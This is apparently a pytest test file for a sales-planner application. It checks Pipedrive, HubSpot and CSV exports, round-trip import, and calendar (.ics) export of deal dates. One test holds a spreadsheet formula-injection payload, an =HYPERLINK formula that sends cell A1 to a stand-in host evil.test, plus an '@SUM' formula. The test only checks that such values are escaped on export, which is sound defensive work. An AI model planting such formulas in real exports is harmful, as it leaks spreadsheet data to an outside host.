"""Deals, organizations and people for Pipedrive's and HubSpot's importers, and a calendar."""

from __future__ import annotations

from datetime import date, timedelta
from pathlib import Path

import pytest
from icalendar import Calendar
from transfer_files import sales_process

from planner.domain.model import Account, Contact, Deal, DealStatus
from planner.services import Planner
from planner.transfer import calendar, crm_export, csv_files, import_plan, import_run
from planner.transfer.columns import Kind, Source


@pytest.fixture
def filled(tmp_path: Path) -> Planner:
    planner = Planner.open(tmp_path / "filled.planner", create=True)
    planner.processes.create(sales_process())
    process = planner.processes.get(planner.processes.summaries()[0].id)
    acme = planner.accounts.create(Account(name="Acme, Inc.", industry="Logistics", notes="Line one\nline two"))
    tw = planner.accounts.create(Account(name="台灣精密機械股份有限公司"))
    planner.contacts.add(Contact(acme, "Ann Lee", title="CIO", email="ann@acme.test"))
    planner.contacts.add(Contact(tw, "王小明", email="wang@tw.test"))
    soon = date.today() + timedelta(days=30)
    planner.deals.create(Deal(acme, process.id, "Fleet tracking", value=12500.5, currency="EUR",  # type: ignore[arg-type]
                              expected_close=soon, next_target=soon - timedelta(days=10)))
    lost = planner.deals.create(Deal(tw, process.id, "智慧產線", value=8_600_000, currency="TWD"))  # type: ignore[arg-type]
    from builders import confirm_current

    from planner.domain.model import Outcome

    confirm_current(planner, lost, Outcome.AGAINST)
    yield planner
    planner.close()


def test_pipedrive_files(filled: Planner, tmp_path: Path) -> None:
    written = crm_export.export(filled, Source.PIPEDRIVE, tmp_path / "out")
    assert [p.name for p in written] == ["organizations.csv", "people.csv", "deals.csv"]
    for path in written:
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    deals = csv_files.read(tmp_path / "out" / "deals.csv")
    assert deals.headers[:7] == ["Deal - Title", "Deal - Value", "Deal - Currency of value", "Organization - Name",
                                 "Deal - Pipeline", "Deal - Stage", "Deal - Status"]
    rows = {r.cells[0]: r.cells for r in deals.rows}
    assert rows["Fleet tracking"][1:7] == ("12500.5", "EUR", "Acme, Inc.", "Sales", "Qualified", "Open")
    assert rows["智慧產線"][1:7] == ("8600000", "TWD", "台灣精密機械股份有限公司", "Sales", "Qualified", "Lost")
    assert rows["智慧產線"][8] == "Chose another supplier"
    people = csv_files.read(tmp_path / "out" / "people.csv")
    assert people.rows[0].cells[:5] == ("Ann Lee", "CIO", "ann@acme.test", "", "Acme, Inc.")


def test_hubspot_files(filled: Planner, tmp_path: Path) -> None:
    crm_export.export(filled, Source.HUBSPOT, tmp_path)
    contacts = csv_files.read(tmp_path / "contacts.csv")
    assert contacts.headers[:4] == ["First Name", "Last Name", "Email", "Phone Number"]
    assert [r.cells[:2] for r in contacts.rows] == [("Ann", "Lee"), ("", "王小明")]
    deals = {r.cells[0]: r.cells for r in csv_files.read(tmp_path / "deals.csv").rows}
    assert deals["智慧產線"][2] == "Closed Lost" and deals["智慧產線"][8] == "Chose another supplier"
    assert deals["Fleet tracking"][1:5] == ("Sales", "Qualified", "12500.5", "EUR")
    companies = csv_files.read(tmp_path / "companies.csv")
    assert companies.rows[0].cells[0] == "Acme, Inc." and companies.rows[0].cells[-1] == "Line one\nline two"


def _imported_back(folder: Path, target: Source, path: Path) -> Planner:
    """A new planner file with ``target``'s three files in ``folder`` imported (none refused)."""
    fresh = Planner.open(path, create=True)
    fresh.processes.create(sales_process())
    kinds = (Kind.ORGANIZATIONS, Kind.PEOPLE, Kind.DEALS)
    inputs = [import_plan.Input.guessed(csv_files.read(folder / n), k)
              for n, k in zip(crm_export.file_names(target), kinds, strict=True)]
    plan = import_plan.plan(inputs, import_plan.Choices(target), import_plan.Existing.read(fresh))
    assert plan.ok, [(r.file, r.line, r.errors) for r in plan.errors] + list(plan.problems)
    import_run.run(fresh, plan)
    return fresh


@pytest.mark.parametrize("target", [Source.PIPEDRIVE, Source.HUBSPOT, Source.CSV])
def test_our_import_reads_each_export_back(qapp, filled: Planner, tmp_path: Path, target: Source) -> None:  # noqa: ANN001
    folder = tmp_path / str(target)
    crm_export.export(filled, target, folder)
    fresh = _imported_back(folder, target, tmp_path / f"fresh-{target}.planner")
    got = {(d.title, d.value, d.currency, d.status) for d in fresh.deals.all()}
    assert got == {("Fleet tracking", 12500.5, "EUR", DealStatus.OPEN),
                   ("智慧產線", 8_600_000, "TWD", DealStatus.LOST)}
    assert {c.name for a in fresh.accounts.all() for c in fresh.contacts.of(a.id)} == {"Ann Lee", "王小明"}  # type: ignore[arg-type]
    lost = next(d for d in fresh.deals.all() if d.status is DealStatus.LOST)
    assert lost.close_reason == "Chose another supplier"
    fresh.close()


def test_the_calendar_of_dates_to_come(filled: Planner, tmp_path: Path) -> None:
    path = tmp_path / "deals.ics"
    assert calendar.export(filled, path) == 2
    cal = Calendar.from_ical(path.read_bytes())
    events = {str(e["summary"]): e for e in cal.walk("VEVENT")}
    soon = date.today() + timedelta(days=30)
    close = events["Expected close: Fleet tracking (Acme, Inc.)"]
    assert close.decoded("dtstart") == soon
    due = events["Milestone due: Qualified reached — Fleet tracking (Acme, Inc.)"]
    assert due.decoded("dtstart") == soon - timedelta(days=10)
    # the same deal and date keep their UID: a calendar app updates rather than doubles them
    again = Calendar.from_ical(calendar.calendar(filled).to_ical())
    assert sorted(str(e["uid"]) for e in again.walk("VEVENT")) == sorted(str(e["uid"]) for e in events.values())


def test_the_calendar_holds_next_steps_and_work_due(filled: Planner, tmp_path: Path) -> None:
    from planner.domain.model import ItemKind

    fleet = next(d for d in filled.deals.all() if d.title == "Fleet tracking")
    assert fleet.id is not None
    step_day, task_day, kit_day = (date.today() + timedelta(days=n) for n in (2, -3, 5))
    filled.deals.set_next_step(fleet.id, "Send the quote", step_day)
    work = filled.work.get(fleet.id)
    filled.work.set_due(ItemKind.TASK, work.tasks[0].id, task_day)  # type: ignore[arg-type]  # overdue: still listed
    filled.work.set_due(ItemKind.DELIVERABLE, work.deliverables[0].id, kit_day)  # type: ignore[arg-type]
    filled.work.set_due(ItemKind.TASK, work.tasks[1].id, kit_day)  # type: ignore[arg-type]
    filled.work.set_done(ItemKind.TASK, work.tasks[1].id, True)  # type: ignore[arg-type]  # done: not due any more
    path = tmp_path / "deals.ics"
    assert calendar.export(filled, path) == 5
    events = {str(e["summary"]): e for e in Calendar.from_ical(path.read_bytes()).walk("VEVENT")}
    step = events["Next step: Send the quote — Fleet tracking (Acme, Inc.)"]
    assert step.decoded("dtstart") == step_day and step.decoded("dtend") == step_day + timedelta(days=1)
    assert "Stage: Qualified" in str(step["description"])
    assert events["Task due: Required task 1 — Fleet tracking (Acme, Inc.)"].decoded("dtstart") == task_day
    assert events["Deliverable due: Deliverable 1 — Fleet tracking (Acme, Inc.)"].decoded("dtstart") == kit_day
    uid = str(step["uid"])
    # the next step after it is the same event moved (its UID is the deal's next step's)
    filled.deals.complete_next_step(fleet.id)
    filled.deals.set_next_step(fleet.id, "Chase the signature", step_day + timedelta(days=7))
    again = {str(e["summary"]): e for e in calendar.calendar(filled).walk("VEVENT")}
    assert str(again["Next step: Chase the signature — Fleet tracking (Acme, Inc.)"]["uid"]) == uid
    # a step without a date is in no calendar; a closed deal's steps neither
    filled.deals.set_next_step(fleet.id, "Think it over", None)
    summaries = [str(e["summary"]) for e in calendar.calendar(filled).walk("VEVENT")]
    assert not any(s.startswith("Next step") for s in summaries)
    filled.deals.abandon(fleet.id, "Budget gone")
    assert calendar.calendar(filled).walk("VEVENT") == []


HOSTILE = '=HYPERLINK("http://evil.test/?"&A1,"Open")'


@pytest.mark.parametrize("target", [Source.PIPEDRIVE, Source.HUBSPOT, Source.CSV])
def test_a_name_that_is_a_formula_is_exported_as_text_and_imported_as_typed(
        qapp, tmp_path: Path, target: Source) -> None:  # noqa: ANN001
    planner = Planner.open(tmp_path / "hostile.planner", create=True)
    planner.processes.create(sales_process())
    process = planner.processes.get(planner.processes.summaries()[0].id)
    account = planner.accounts.create(Account(name="@SUM(1+1)"))
    planner.contacts.add(Contact(account, "Ann Lee", phone="+886 2 2345 6789"))
    planner.deals.create(Deal(account, process.id, HOSTILE, value=100, currency="TWD"))  # type: ignore[arg-type]
    folder = tmp_path / "out"
    crm_export.export(planner, target, folder)
    planner.close()
    text = "".join((folder / n).read_text(encoding="utf-8-sig") for n in crm_export.file_names(target))
    assert "'=HYPERLINK" in text and "'@SUM(1+1)" in text
    assert "+886 2 2345 6789" in text and "'+886" not in text  # a phone number stays as CRMs take it
    fresh = _imported_back(folder, target, tmp_path / "fresh.planner")
    assert [d.title for d in fresh.deals.all()] == [HOSTILE]
    assert [a.name for a in fresh.accounts.all()] == ["@SUM(1+1)"]
    fresh.close()
